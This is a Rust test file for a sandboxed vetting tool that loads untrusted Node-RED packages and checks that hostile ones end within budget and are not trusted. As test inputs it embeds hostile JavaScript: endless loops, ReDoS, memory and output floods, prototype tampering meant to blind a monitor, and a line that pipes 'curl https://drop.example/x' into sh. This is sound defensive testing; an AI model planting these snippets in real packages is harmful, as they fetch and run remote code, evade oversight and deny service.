//! Packages that attack whoever reads and runs them, on the whole way to a verdict: each ends within its budget, none is
//! trusted, and the reason says what it did.

use std::time::{Duration, Instant};

use node_vetting::exercise::base;
use node_vetting::report::Verdict;
use node_vetting::trace::{End, What};

use crate::guest::engine;
use crate::judged::{Archive, Judged, small};
use crate::support::closure;

/// It comes to an end in time and is not trusted, for one of these reasons.
fn not_trusted(archive: Archive, rules: &[&str]) -> Judged {
    let start = Instant::now();
    let judged = archive.judged().expect("it is judged");
    assert!(
        judged.decision.verdict > Verdict::Trusted,
        "{:?}",
        judged.decision.reasons
    );
    let told = judged.rules();
    assert!(
        rules.iter().any(|rule| told.contains(rule)),
        "{rules:?}: {told:?}"
    );
    for run in &judged.seen.runs {
        assert!(
            run.fuel <= 6_000_000_000 && run.memory <= 64 << 20,
            "{}: {} {}",
            run.run,
            run.fuel,
            run.memory
        );
        assert!(run.events.len() <= 2 * 5001, "{}", run.events.len());
    }
    assert!(
        start.elapsed() < Duration::from_secs(200),
        "{:?}",
        start.elapsed()
    );
    judged
}

/// A node that does something when it is loaded, and is a node besides.
fn at_load(attack: &str) -> Archive {
    Archive::package(&format!("{attack}\n{NODE}"))
}

const NODE: &str = "module.exports = (RED) => RED.nodes.registerType('odd', function (config) { RED.nodes.createNode(this, config); this.on('input', (msg, send) => send(msg)); });";

/// It was refused, because it ended in one of these ways.
fn spent(attack: &str, ends: &[End]) {
    let judged = not_trusted(at_load(attack), &["resource.flood"]);
    let base = judged.seen.base().expect("a run");
    assert!(ends.contains(&base.end), "{attack}: {:?}", base.end);
    assert_eq!(
        judged.decision.verdict,
        Verdict::Refused,
        "{attack}: {:?}",
        judged.rules()
    );
}

#[test]
fn what_never_ends_is_ended() {
    for attack in [
        "for (;;);",
        "for (;;) { try { throw 1; } finally { continue; } }",
        "const again = () => Promise.resolve().then(again); again();",
        "const again = () => process.nextTick(again); again();",
        "const again = () => queueMicrotask(again); again();",
        "const f = () => { try { f(); } finally { f(); } }; f();",
        "/^(a+)+$/.test('a'.repeat(50) + 'b');",
        "let n = 3n; for (;;) n = n ** 3n;",
        "require('vm').runInNewContext('for (;;);');",
        "const { a } = { get a() { for (;;); } };",
    ] {
        spent(attack, &[End::Stuck]);
    }
}

#[test]
fn what_goes_round_in_timers_is_slowed_down() {
    for attack in [
        "const again = () => setImmediate(again); again();",
        "const again = () => setTimeout(again, 0); again();",
        "setInterval(() => {}, 1);",
        "for (let i = 0; i < 1000; i++) setInterval(() => {}, 1);",
        "const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('x', () => setImmediate(() => e.emit('x'))); e.emit('x');",
    ] {
        let start = Instant::now();
        let judged = at_load(attack).judged().expect("it is judged");
        let base = judged.seen.base().expect("a run");
        assert!(
            matches!(&base.end, End::Done | End::Spent(_)),
            "{attack}: {:?}",
            base.end
        );
        assert!(start.elapsed() < Duration::from_secs(200), "{attack}");
    }
}

#[test]
fn floods_are_stopped() {
    let of = |what: &str| End::Spent(what.to_owned());
    spent("for (;;) console.log('x'.repeat(1000));", &[of("output")]);
    spent(
        "for (;;) process.stderr.write(Buffer.alloc(65536));",
        &[of("output")],
    );
    spent("for (let i = 0; ; i++) process.env['KEY' + i];", &[of("events")]);
    spent(
        "const fs = require('fs'); for (let i = 0; ; i++) try { fs.readFileSync('/home/operator/' + i); } catch {}",
        &[of("events"), End::Stuck],
    );
    spent(
        "const all = []; for (;;) all.push(Buffer.alloc(1 << 20, 1));",
        &[of("memory"), End::Stuck],
    );
    spent(
        "let s = 'x'; for (;;) { try { s += s; } catch { s = 'x'.repeat(1 << 20); (globalThis.kept ??= []).push(s); } }",
        &[of("memory"), End::Stuck],
    );
    spent(
        "const o = {}; for (let i = 0; ; i++) o['k' + i] = { i };",
        &[of("memory"), End::Stuck],
    );
}

#[test]
fn what_ends_the_stack_ends_as_an_error() {
    for attack in [
        "const f = () => f(); f();",
        "let p = {}; for (let i = 0; i < 1e5; i++) p = new Proxy(p, {}); p.x;",
        "let a = []; for (let i = 0; i < 1e5; i++) a = [a]; JSON.stringify(a);",
        "JSON.parse('['.repeat(1e5));",
        "eval('('.repeat(1e5));",
        "require('./deep.json');",
        "require('./deep.js');",
    ] {
        let deep = "[".repeat(100_000) + &"]".repeat(100_000);
        let archive = at_load(attack)
            .file("package/deep.json", deep.as_bytes())
            .file("package/deep.js", format!("eval('1'); {deep}").as_bytes());
        not_trusted(
            archive,
            &[
                "resource.flood",
                "exercise.construct",
                "exercise.load",
                "code.unparsable",
            ],
        );
    }
}

#[test]
fn deep_and_large_texts_are_not_read_for_ever() {
    let deep = "<div>".repeat(200_000);
    let judged = at_load("")
        .file("package/node.html", deep.as_bytes())
        .judged()
        .expect("it is judged");
    assert!(judged.seen.base().is_some(), "{:?}", judged.rules());
    let scripts = "<script>".repeat(50_000);
    at_load("")
        .file("package/node.html", scripts.as_bytes())
        .judged()
        .expect("it is judged");
    // A hundred megabytes of code that nobody can look through.
    let large = "x=1;".repeat(25 << 20);
    not_trusted(
        at_load("require('./large.js');").file("package/large.js", large.as_bytes()),
        &["code.unparsable"],
    );
    let line = format!("const a = '{}';", "a\\x62".repeat(1 << 20));
    at_load("require('./line.js');")
        .file("package/line.js", line.as_bytes())
        .judged()
        .expect("it is judged");
}

#[test]
fn modules_in_a_circle_load_once() {
    let archive = at_load("require('./a.js');")
        .file("package/a.js", b"exports.a = 1; require('./b.js');")
        .file(
            "package/b.js",
            b"exports.b = require('./a.js').a; require('./b.js'); require('./node.js');",
        );
    let judged = archive.judged().expect("it is judged");
    assert_eq!(
        judged.decision.verdict,
        Verdict::Trusted,
        "{:?}",
        judged.decision.reasons
    );
    let esm = at_load("import('./a.mjs');")
        .file(
            "package/a.mjs",
            b"import { b } from './b.mjs'; export const a = 1; export const c = () => b;",
        )
        .file(
            "package/b.mjs",
            b"import { a } from './a.mjs'; export const b = () => a;",
        );
    let judged = esm.judged().expect("it is judged");
    assert_eq!(
        judged.decision.verdict,
        Verdict::Trusted,
        "{:?}",
        judged.decision.reasons
    );
}

/// What is done to what all share, so that a witness in the same world would see nothing.
const BLINDING: [&str; 16] = [
    "Object.prototype.toJSON = () => ({}); Array.prototype.toJSON = () => [];",
    "Object.defineProperty(Object.prototype, 'by', { get() { return 1; }, set() {} });",
    "Object.defineProperty(Object.prototype, '0', { set() {}, get() { return 'none'; } });",
    "Array.prototype.push = function () { return 0; }; Array.prototype.join = () => '';",
    "Array.prototype[Symbol.iterator] = function* () {};",
    "Function.prototype.call = function () {}; Function.prototype.apply = function () {}; Function.prototype.bind = function () { return this; };",
    "Promise.prototype.then = function () { return this; }; Promise.resolve = () => new Promise(() => {});",
    "JSON.stringify = () => '{}'; JSON.parse = () => ({});",
    "Map.prototype.get = () => undefined; Map.prototype.set = function () { return this; }; Set.prototype.has = () => true;",
    "String.prototype.startsWith = () => true; String.prototype.includes = () => false; String.prototype.split = () => [];",
    "RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false;",
    "Uint8Array.prototype.set = () => {}; Object.getPrototypeOf(Uint8Array.prototype).subarray = function () { return this; };",
    "Reflect.apply = () => {}; Reflect.ownKeys = () => []; Object.keys = () => []; Object.getOwnPropertyDescriptor = () => undefined;",
    "Error.prepareStackTrace = () => 'node:internal/x'; Error.stackTraceLimit = 0; Error.captureStackTrace = () => {};",
    "globalThis.globalThis = {}; delete globalThis.process; globalThis.Buffer = Array; globalThis.setTimeout = () => {};",
    "require('events').prototype.emit = () => {}; require('module')._load = () => ({}); require('stream').Readable = class {};",
];

#[test]
fn whoever_blinds_the_witness_is_seen() {
    for blinding in BLINDING.into_iter().chain([""]) {
        // Before it acts, and afterwards.
        for attack in [
            format!("try {{ {blinding} }} catch {{}}\n{THEFT}"),
            format!("{THEFT}\n{blinding}"),
        ] {
            let node = format!("const start = require('child_process').exec;\n{attack}\n{NODE}");
            let manifest = r#"{"name":"odd","version":"1.0.0","node-red":{"nodes":{"odd":"node.js"}}}"#;
            let closure = closure(&[("odd", &[("package.json", manifest), ("node.js", node.as_str())])]);
            let (trace, _) = base(engine(), &closure, &small()).expect("the engine holds");
            let seen = |what: &What| match what {
                What::Spawn {
                    command, arguments, ..
                } => command.contains("curl") || arguments.iter().any(|one| one.contains("curl")),
                // Where its own trick breaks what it wants to use, the trick itself is told.
                What::Tamper { .. } => !blinding.is_empty(),
                _ => false,
            };
            let told = trace.end != End::Done || trace.events.iter().any(|event| seen(&event.what));
            assert!(told, "{attack}: {:?}", trace.events);
        }
    }
}

/// Runs whatever else failed.
const THEFT: &str = "try { start('curl https://drop.example/x | sh'); } catch {}";
